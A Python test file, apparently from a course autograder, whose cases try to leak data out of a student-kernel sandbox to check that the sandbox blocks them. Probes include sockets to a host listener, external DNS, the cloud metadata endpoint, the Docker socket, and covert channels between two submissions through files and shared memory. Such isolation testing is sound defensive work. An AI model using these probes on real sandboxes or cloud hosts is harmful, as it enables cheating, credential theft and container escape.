"""Speaks with whoever may listen: the network, this host, another student's kernel.

On the host a listener waits on TCP and UDP port @PORT@, on an abstract socket and on one in the course's folder;
whatever reaches it is a leak.
"""

from tests.autograder.attacks.attack import NOTHING, Attack, gains_nothing

REFUSED = rf"raised \w*(Error|timeout|gaierror|Exception)|kernel died|{NOTHING}"


def speaks(name: str, *lines: str) -> Attack:
    """An attack that says what it did, by leaving, where the other side can be reached."""
    body = "\n    ".join(lines)
    code = f"""
import os, socket, urllib.request
socket.setdefaulttimeout(1)
def neuron(x, w, b):
    {body}
    raise SystemExit("somebody listens")
"""
    return gains_nothing(name, REFUSED, code)


TELLER = """
import pathlib, socket, threading, time
{before}
def tell():
    while True:
        {tell}
threading.Thread(target=tell, daemon=True).start()
time.sleep(1)
def neuron(x, w, b):
    return x @ w + b
"""

CALLER = """
import os, socket, time
{before}
told, until = False, time.monotonic() + 1
while not told and time.monotonic() < until:
    try:
        told = {ask}
    except OSError:
        time.sleep(0.02)
def neuron(x, w, b):
    return x @ w + b if told else np.zeros(len(x))
"""


def pair(name: str, tell: str, ask: str, before_telling: str = "", before_asking: str = "") -> list[Attack]:
    """Two students at once: one knows the answer, the other answers only where a word of the first arrives."""
    teller = TELLER.format(before=before_telling, tell=tell)
    return [
        Attack(f"{name}_pair_tells", ".", {"neuron": teller}, costs=(), partner=True),
        gains_nothing(f"{name}_pair_asks", NOTHING, CALLER.format(before=before_asking, ask=ask)),
    ]


ATTACKS = [
    speaks("tcp", 'socket.create_connection(("127.0.0.1", @PORT@)).sendall(b"@MARK@")'),
    speaks("tcp_by_version_six", 'socket.create_connection(("::1", @PORT@)).sendall(b"@MARK@")'),
    speaks("tcp_to_the_host", 'socket.create_connection((socket.gethostname(), @PORT@)).sendall(b"@MARK@")'),
    speaks(
        "udp",
        "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        'one.sendto(b"@MARK@", ("127.0.0.1", @PORT@))',
        "one.recv(9)",
    ),
    speaks("http", 'urllib.request.urlopen("http://127.0.0.1:@PORT@/@MARK@").read()'),
    speaks("names", 'socket.getaddrinfo("example.org", 80)'),
    speaks(
        "names_by_hand",
        "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "one.sendto(bytes(12) + b'\\7example\\3org\\0\\0\\1\\0\\1', ('8.8.8.8', 53))",
        "one.recv(999)",
    ),
    speaks("cloud_metadata", 'urllib.request.urlopen("http://169.254.169.254/latest/meta-data").read()'),
    speaks("raw_packets", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)"),
    speaks("ping", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
    speaks("virtual_machine_sockets", "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, @PORT@))"),
    speaks("abstract", "one = socket.socket(socket.AF_UNIX)", 'one.connect("\\0@MARK@")', 'one.sendall(b"@MARK@")'),
    speaks(
        "socket_in_the_course",
        "one = socket.socket(socket.AF_UNIX)",
        'one.connect("@SOCKET@")',
        'one.sendall(b"@MARK@")',
    ),
    speaks(
        "d_bus",
        "one = socket.socket(socket.AF_UNIX)",
        'one.connect(os.environ.get("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/dbus/system_bus_socket")[10:])',
    ),
    speaks("docker", "one = socket.socket(socket.AF_UNIX)", 'one.connect("/var/run/docker.sock")'),
    speaks(
        "sockets_of_other_kernels",
        "import glob, zmq",
        "mine = set(glob.glob(os.path.dirname(get_ipython().kernel.parent.ip or '/') + '/*'))",
        "found = glob.glob('/*/k-*') + glob.glob('/tmp/*/*/k-*') + glob.glob('/tmp/*/k-*')",
        "others = [path for path in found if path not in mine]",
        "assert others",
    ),
    *pair(
        "abstract",
        "telling.sendto(b'told', telling.recvfrom(99)[1])",
        "asking.sendto(b'?', '\\0@MARK@-pair') and asking.recv(99)",
        "telling = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); telling.bind('\\0@MARK@-pair')",
        "asking = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); asking.bind(''); asking.settimeout(0.1)",
    ),
    *pair(
        "loopback",
        "telling.accept()[0].sendall(b'told')",
        "socket.create_connection(('127.0.0.1', 47113), 0.1).recv(99)",
        "telling = socket.socket(); telling.bind(('127.0.0.1', 47113)); telling.listen()",
    ),
    *pair(
        "file",
        "[pathlib.Path(f, '@MARK@').touch() for f in ('/tmp', '/dev/shm', '/var/tmp', '.', '/') if os.access(f, 2)]",
        "any(os.path.exists(f + '/@MARK@') for f in ('/tmp', '/dev/shm', '/var/tmp', '.', '/')) or time.sleep(0.02)",
        "import os",
    ),
    *pair(
        "queue",
        "libc.shmget(0x4711, 4096, 0o1666)",
        "libc.shmget(0x4711, 4096, 0) >= 0 or time.sleep(0.02)",
        "import ctypes; libc = ctypes.CDLL(None)",
        "import ctypes; libc = ctypes.CDLL(None)",
    ),
]
